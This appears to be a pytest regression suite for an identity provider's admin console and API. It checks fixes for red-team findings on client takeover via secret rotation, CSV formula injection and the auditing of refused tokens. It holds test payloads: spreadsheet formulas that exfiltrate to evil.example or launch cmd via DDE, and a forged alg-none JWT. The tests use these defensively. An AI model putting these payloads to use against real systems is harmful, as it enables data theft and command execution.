"""Red-team findings on the administrators' side (issue 11: #1, #18, #20 in part).

#1   a client-admin (console) or a program holding only admin.clients (API) took over a
     service client holding admin.staff by rotating its secret, then made itself admin;
#18  the temporary-passwords CSV of the staff import carried spreadsheet formulas;
#20  refused admin-API bearer tokens and initial access tokens left no audit trace.
"""

from __future__ import annotations

import csv
import inspect
import io
import json

import pytest

from idp.extensions import db
from idp.models import AuditEvent, Client
from idp.services import admin_clients, clients, passwords, users

REFUSAL_VI = ("Ứng dụng này có các phạm vi quản trị (admin.*): chỉ quản trị viên mới được "
              "thay đổi ứng dụng hoặc thông tin xác thực của nó.")
REFUSAL_EN = ("This application holds administrative scopes (admin.*): only an administrator "
              "may change it or its credentials.")
ATTACKER_IP = "203.0.113.66"


@pytest.fixture
def hr_sync(app):
    """The HR system's sync integration: a service client holding admin.staff."""
    row, secret = clients.create_client("Đồng bộ nhân sự", client_type="service",
                                        client_id="hr-sync", scope="admin.staff")
    db.session.commit()
    return row, secret


def _post(client, csrf, url, data=None):
    return client.post(url, data={**(data or {}), "csrf_token": csrf()})


def _hr_token(client, secret: str):
    return client.post("/token", data={"grant_type": "client_credentials", "scope": "admin.staff"},
                       auth=("hr-sync", secret))


def _unchanged(hr_secret: str) -> Client:
    db.session.expire_all()
    row = clients.get_client("hr-sync")
    assert clients.check_secret(row, hr_secret)  # the HR system's secret still works...
    assert row.previous_secret_hash is None      # ...and no second one was added beside it
    assert row.enabled and row.scope == "admin.staff"
    return row


def _refusals(actor: str) -> list[AuditEvent]:
    return db.session.query(AuditEvent).filter_by(event_type="client.change_refused",
                                                  actor=actor).all()


# --- #1 the console path: a client-admin with its second factor ---------------------------


def test_client_admin_cannot_take_over_an_admin_service_client_in_the_console(
        client, csrf, sign_in_as, admin_user, hr_sync):
    _row, hr_secret = hr_sync
    attacker = sign_in_as("client-admin")  # signed in with password + TOTP (acr mfa)

    # The client's page shows why, and offers none of the actions.
    page = client.get("/admin/clients/hr-sync").get_data(as_text=True)
    assert REFUSAL_VI in page
    assert "/admin/clients/hr-sync/rotate" not in page and "/admin/clients/hr-sync/edit" not in page

    # Step 1: rotate the secret to read the new one on the page.
    response = _post(client, csrf, "/admin/clients/hr-sync/rotate", {"grace_hours": "0"})
    assert response.status_code == 403
    page = response.get_data(as_text=True)
    assert REFUSAL_VI in page.split('id="refusal">')[1].split("</p>")[0]
    assert 'class="secret"' not in page
    assert response.headers["Cache-Control"] == "no-store"
    _unchanged(hr_secret)

    # Every other way to bend the client is refused the same way.
    form = {"client_name": "Đồng bộ", "client_type": "service", "grant_types": "client_credentials",
            "scope": "admin.staff"}
    for method, url, data in [
        ("POST", "/admin/clients/hr-sync/edit", form),
        ("GET", "/admin/clients/hr-sync/edit", None),
        ("POST", "/admin/clients/hr-sync/enabled", {"enabled": "0"}),
        ("GET", "/admin/clients/hr-sync/delete", None),
        ("POST", "/admin/clients/hr-sync/delete", {"confirm": "hr-sync"}),
    ]:
        response = (client.get(url) if method == "GET" else _post(client, csrf, url, data))
        assert response.status_code == 403, (method, url)
        assert REFUSAL_VI in response.get_data(as_text=True), (method, url)
    _unchanged(hr_secret)

    # Step 2: no client_credentials token for admin.staff can be had without the secret.
    refused = _hr_token(client, "guessed-" + "x" * 40)
    assert refused.status_code == 401 and refused.get_json()["error"] == "invalid_client"

    # Steps 3 and 4 without a token: the SSO cookie opens no door to the API, and the
    # console's own role and password pages are not a client-admin's.
    patch = client.patch(f"/api/admin/users/{attacker.username}",
                         json={"roles": ["client-admin", "admin"]})
    assert patch.status_code == 401 and patch.get_json()["error"] == "invalid_token"
    assert patch.headers["WWW-Authenticate"] == 'Bearer realm="idp"'  # RFC 6750 §3.1: no token
    assert _post(client, csrf, f"/admin/staff/{attacker.id}/roles",
                 {"roles": ["client-admin", "admin"]}).status_code == 403
    assert _post(client, csrf, f"/admin/staff/{admin_user.id}/reset-password").status_code == 403
    db.session.expire_all()
    assert sorted(users.get_user(attacker.username).global_roles()) == ["client-admin"]
    assert not users.get_user(admin_user.username).must_change_password

    # Each refusal on the client is in the audit log, attributed to the client-admin.
    refusals = _refusals(attacker.username)
    assert {e.details["operation"] for e in refusals} == {
        "rotate_secret", "update", "edit_form", "set_enabled", "delete_form", "delete_client"}
    assert all(e.outcome == "failure" and e.client == "hr-sync" for e in refusals)
    assert not db.session.query(AuditEvent).filter_by(event_type="client.secret_rotated").count()


def test_the_refusal_page_speaks_english_when_asked(client, csrf, sign_in_as, hr_sync):
    sign_in_as("client-admin")
    response = _post(client, csrf, "/admin/clients/hr-sync/rotate?lang=en", {"grace_hours": "0"})
    assert response.status_code == 403 and REFUSAL_EN in response.get_data(as_text=True)


def test_a_full_admin_still_rotates_the_admin_service_client(client, csrf, sign_in_as, hr_sync):
    _row, old = hr_sync
    sign_in_as("admin")
    response = _post(client, csrf, "/admin/clients/hr-sync/rotate", {"grace_hours": "0"})
    assert response.status_code == 200
    new = response.get_data(as_text=True).split('class="secret">')[1].split("<")[0]
    assert _hr_token(client, new).status_code == 200
    assert _hr_token(client, old).status_code == 401


def test_client_admin_cannot_edit_a_client_into_admin_scopes(client, csrf, sign_in_as,
                                                             confidential_client):
    sign_in_as("client-admin")
    info = admin_clients.as_dict(confidential_client.row)
    form = {"client_name": info["client_name"], "redirect_uris": "\n".join(info["redirect_uris"]),
            "grant_types": info["grant_types"], "scope": info["scope"] + " admin.staff"}
    response = _post(client, csrf, "/admin/clients/docs/edit?lang=en", form)
    assert response.status_code == 422
    error = response.get_data(as_text=True).split('id="e-scope">')[1].split("</p>")[0]
    assert "Only an administrator may grant the admin.* scopes." in error
    db.session.expire_all()
    assert "admin.staff" not in clients.get_client("docs").scope


def test_client_admin_still_manages_ordinary_clients(client, csrf, sign_in_as, confidential_client):
    sign_in_as("client-admin")
    response = _post(client, csrf, "/admin/clients/docs/rotate", {"grace_hours": "0"})
    assert response.status_code == 200
    new = response.get_data(as_text=True).split('class="secret">')[1].split("<")[0]
    assert clients.check_secret(clients.get_client("docs"), new)
    info = admin_clients.as_dict(clients.get_client("docs"))
    edited = _post(client, csrf, "/admin/clients/docs/edit", {
        "client_name": "Văn bản điện tử", "redirect_uris": "\n".join(info["redirect_uris"]),
        "grant_types": info["grant_types"], "scope": info["scope"]})
    assert edited.status_code == 302
    assert _post(client, csrf, "/admin/clients/docs/enabled", {"enabled": "0"}).status_code == 302
    db.session.expire_all()
    row = clients.get_client("docs")
    assert row.name == "Văn bản điện tử" and not row.enabled
    assert client.get("/admin/clients/docs").status_code == 200
    assert _post(client, csrf, "/admin/clients/docs/delete", {"confirm": "docs"}).status_code == 302
    assert db.session.query(Client).filter_by(client_id="docs").first() is None


# --- #1 the API path: a program holding only admin.clients --------------------------------


def _api(client, token: str, method: str, path: str, **kwargs):
    return client.open(f"/api/admin{path}", method=method,
                       headers={"Authorization": f"Bearer {token}"}, **kwargs)


def _assert_insufficient_scope(response, message: str = REFUSAL_VI) -> None:
    assert response.status_code == 403
    assert response.get_json() == {"error": "insufficient_scope", "error_description": message}
    # RFC 6750 §3: the challenge names the error and the scopes needed (every admin scope).
    assert response.headers["WWW-Authenticate"] == (
        'Bearer realm="idp", error="insufficient_scope", error_description="The access token '
        'lacks the admin.clients admin.staff admin.audit scope.", '
        'scope="admin.clients admin.staff admin.audit"')
    assert response.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("scope", ["admin.clients", "admin.clients admin.audit"])
def test_a_program_without_every_admin_scope_cannot_take_over_the_admin_service_client(
        client, client_credentials, make_staff, admin_user, hr_sync, scope):
    _row, hr_secret = hr_sync
    token = client_credentials(scope)

    # Step 1: rotate the secret to read the new one in the answer.
    response = _api(client, token, "POST", "/clients/hr-sync/secret", json={"grace_seconds": 0})
    _assert_insufficient_scope(response)
    assert "client_secret" not in response.get_json()
    _unchanged(hr_secret)

    # Every other way to bend the client is refused the same way.
    for method, path, body in [
        ("PATCH", "/clients/hr-sync", {"scope": "admin.staff admin.clients admin.audit"}),
        ("PATCH", "/clients/hr-sync", {"enabled": False}),
        ("PATCH", "/clients/hr-sync", {"client_name": "Đồng bộ (sửa)"}),
        ("DELETE", "/clients/hr-sync", None),
    ]:
        _assert_insufficient_scope(_api(client, token, method, path, json=body))
    _unchanged(hr_secret)

    # Step 2: no token for admin.staff without the secret.
    refused = _hr_token(client, "guessed-" + "x" * 40)
    assert refused.status_code == 401 and refused.get_json()["error"] == "invalid_client"

    # Steps 3 and 4 with the token it does hold: the staff API is not open to it.
    attacker = make_staff("tran.kha", "client-admin")
    for method, path, body in [
        ("PATCH", f"/users/{attacker.username}", {"roles": ["client-admin", "admin"]}),
        ("POST", f"/users/{admin_user.username}/reset-password", {}),
    ]:
        response = _api(client, token, method, path, json=body)
        assert response.status_code == 403
        assert response.get_json()["error"] == "insufficient_scope"
        assert response.headers["WWW-Authenticate"].startswith(
            'Bearer realm="idp", error="insufficient_scope", ')
        assert 'scope="admin.staff"' in response.headers["WWW-Authenticate"]
    db.session.expire_all()
    assert sorted(users.get_user(attacker.username).global_roles()) == ["client-admin"]
    assert not users.get_user(admin_user.username).must_change_password

    refusals = _refusals("client:automation")
    assert len(refusals) == 5 and {e.details["operation"] for e in refusals} == {
        "rotate_secret", "update", "delete_client"}
    assert all(e.ip == "127.0.0.1" and e.client == "hr-sync" for e in refusals)


def test_a_program_with_every_admin_scope_may_rotate_the_admin_service_client(
        client, client_credentials, hr_sync):
    token = client_credentials("admin.clients admin.staff admin.audit")
    response = _api(client, token, "POST", "/clients/hr-sync/secret", json={"grace_seconds": 0})
    assert response.status_code == 200
    assert _hr_token(client, response.get_json()["client_secret"]).status_code == 200


def test_a_program_holding_only_admin_clients_manages_ordinary_clients(
        client, client_credentials, confidential_client):
    token = client_credentials("admin.clients")
    rotated = _api(client, token, "POST", "/clients/docs/secret", json={"grace_seconds": 0})
    assert rotated.status_code == 200
    assert clients.check_secret(clients.get_client("docs"), rotated.get_json()["client_secret"])
    grown = _api(client, token, "PATCH", "/clients/docs", json={"scope": "openid admin.staff"})
    assert grown.status_code == 422 and "scope" in grown.get_json()["fields"]
    assert _api(client, token, "PATCH", "/clients/docs", json={"enabled": False}).status_code == 200
    assert _api(client, token, "DELETE", "/clients/docs").status_code == 204


def test_every_operation_taking_a_client_passes_the_guard():
    """A future operation on a client cannot forget the check: it must be @changes_client."""
    for name, function in inspect.getmembers(admin_clients, inspect.isfunction):
        if function.__module__ != admin_clients.__name__ or name.startswith("_"):
            continue
        if "client" in inspect.signature(function).parameters and name not in admin_clients.READS_ONLY:
            assert getattr(function, "changes_client", False), f"{name} is not guarded"
    for name in ("update", "set_enabled", "rotate_secret", "delete_client"):
        assert getattr(admin_clients, name).changes_client


# --- #18 the temporary-passwords CSV -------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&C2,"Bấm vào đây")',
            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def test_imported_names_are_not_formulas_in_the_passwords_csv(client, csrf, sign_in_as, department):
    sign_in_as("admin")
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["username", "full_name", "email", "department_code"])
    for number, name in enumerate(FORMULAS):
        writer.writerow([f"nv.{number}", name, f"nv.{number}@example.gov.vn", "VP"])
    response = client.post("/admin/staff/import", content_type="multipart/form-data", data={
        "file": (io.BytesIO(buffer.getvalue().encode()), "staff.csv"), "action": "import",
        "output": "csv", "csrf_token": csrf()})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["username", "full_name", "temporary_password"]
    for number, (username, full_name, temporary) in enumerate(rows[1:]):
        assert full_name == "'" + FORMULAS[number]  # text to a spreadsheet, not a formula
        staff = users.get_user(username)
        assert staff.full_name == FORMULAS[number]  # stored as given
        assert passwords.verify_password(staff.password_hash, temporary)  # still the password


# --- #20 refused bearer tokens are audited (never the token) ---------------------------------


def _refused_tokens(event_type: str) -> list[AuditEvent]:
    return db.session.query(AuditEvent).filter_by(event_type=event_type).all()


def _without(token: str, event: AuditEvent) -> None:
    row = json.dumps({c: str(getattr(event, c)) for c in
                      ("actor", "subject", "client", "ip", "details", "event_type")})
    assert token not in row and token[-20:] not in row


def test_no_bearer_at_the_admin_api_is_audited(client):
    response = client.get("/api/admin/clients", environ_base={"REMOTE_ADDR": ATTACKER_IP})
    assert response.status_code == 401
    # RFC 6750 §3.1: no token at all, a challenge without an error code.
    assert response.headers["WWW-Authenticate"] == 'Bearer realm="idp"'
    [event] = _refused_tokens("admin_api.token_refused")
    assert (event.outcome, event.ip, event.client) == ("failure", ATTACKER_IP, None)
    assert event.details == {"reason": "missing", "required_scope": "admin.clients",
                             "method": "GET", "path": "/api/admin/clients"}


@pytest.mark.parametrize("bad,client_id,description", [
    ({"ttl": -10}, "automation", "The access token expired."),
    ({"revoked": True}, "automation", "The access token was revoked."),
    ({"typ": "JWT"}, "automation", "The token is not an access token."),
    (None, None, "The access token is malformed or its signature is invalid."),
])
def test_a_bad_bearer_at_the_admin_api_is_audited_without_the_token(client, mint, bad,
                                                                      client_id, description):
    forged = "eyJhbGciOiJub25lIn0.eyJzY29wZSI6ImFkbWluLnN0YWZmIn0.forged"  # alg none, our scope
    token = mint(**bad) if bad is not None else forged
    response = client.delete("/api/admin/clients/docs", environ_base={"REMOTE_ADDR": ATTACKER_IP},
                             headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 401
    assert response.get_json() == {"error": "invalid_token", "error_description": description}
    assert response.headers["WWW-Authenticate"] == (
        f'Bearer realm="idp", error="invalid_token", error_description="{description}"')
    [event] = _refused_tokens("admin_api.token_refused")
    assert (event.outcome, event.ip, event.client) == ("failure", ATTACKER_IP, client_id)
    assert event.details == {"reason": "invalid", "description": description,
                             "required_scope": "admin.clients", "method": "DELETE",
                             "path": "/api/admin/clients/docs"}
    _without(token, event)


def test_a_token_lacking_the_scope_is_audited_and_answered_403(client, client_credentials):
    token = client_credentials("admin.audit")
    response = client.get("/api/admin/users", environ_base={"REMOTE_ADDR": ATTACKER_IP},
                          headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 403
    assert response.get_json() == {"error": "insufficient_scope",
                                   "error_description": "Access token không có phạm vi admin.staff."}
    assert response.headers["WWW-Authenticate"] == (
        'Bearer realm="idp", error="insufficient_scope", '
        'error_description="The access token lacks the admin.staff scope.", scope="admin.staff"')
    [event] = _refused_tokens("admin_api.token_refused")
    assert (event.outcome, event.ip, event.client) == ("failure", ATTACKER_IP, "automation")
    assert event.details["reason"] == "insufficient_scope"
    assert event.details["required_scope"] == "admin.staff"
    _without(token, event)


@pytest.mark.parametrize("header,reason", [
    (None, "missing"),
    ("Bearer not-an-initial-access-token-0123456789abcdef", "invalid"),
])
def test_a_bad_initial_access_token_at_registration_is_audited(client, header, reason):
    headers = {"Authorization": header} if header else {}
    response = client.post("/register", environ_base={"REMOTE_ADDR": ATTACKER_IP}, headers=headers,
                           json={"client_name": "Lạ", "redirect_uris": ["https://evil.example/cb"]})
    assert response.status_code == 401
    assert response.get_json()["error"] == "invalid_token"
    assert response.headers["WWW-Authenticate"] == 'Bearer error="invalid_token"'
    assert db.session.query(Client).count() == 0
    [event] = _refused_tokens("registration.initial_token_refused")
    assert (event.outcome, event.ip, event.details) == ("failure", ATTACKER_IP, {"reason": reason})
    if header:
        _without(header.split()[1], event)


def test_a_registration_access_token_cannot_bend_a_client_that_now_holds_admin_scopes(
        client, app):
    """RFC 7592 §2.2/§2.3: once an administrator gave the client admin.*, its developer's
    registration access token may still read it but no longer replace or delete it."""
    from idp.services import registration
    from idp.services.admin_audit import Actor

    _row, initial = registration.issue_initial_token("CI", 3600, Actor("binh.tran"))
    db.session.commit()
    body = client.post("/register", headers={"Authorization": f"Bearer {initial}"}, json={
        "client_name": "Báo cáo", "grant_types": ["client_credentials"],
        "scope": "openid", "token_endpoint_auth_method": "client_secret_basic"}).get_json()
    row = clients.get_client(body["client_id"])
    row.scope = "admin.staff"  # an administrator's later decision
    db.session.commit()
    headers = {"Authorization": f"Bearer {body['registration_access_token']}"}
    url = f"/register/{body['client_id']}"
    assert client.get(url, headers=headers).status_code == 200
    replaced = client.put(url, headers=headers, json={
        "client_id": body["client_id"], "client_name": "Báo cáo", "scope": "admin.staff",
        "grant_types": ["client_credentials"], "token_endpoint_auth_method": "client_secret_basic"})
    assert replaced.status_code == 403
    assert replaced.get_json() == {"error": "forbidden", "error_description": REFUSAL_VI}
    assert client.delete(url, headers=headers).status_code == 403
    db.session.expire_all()
    assert clients.get_client(body["client_id"]).scope == "admin.staff"
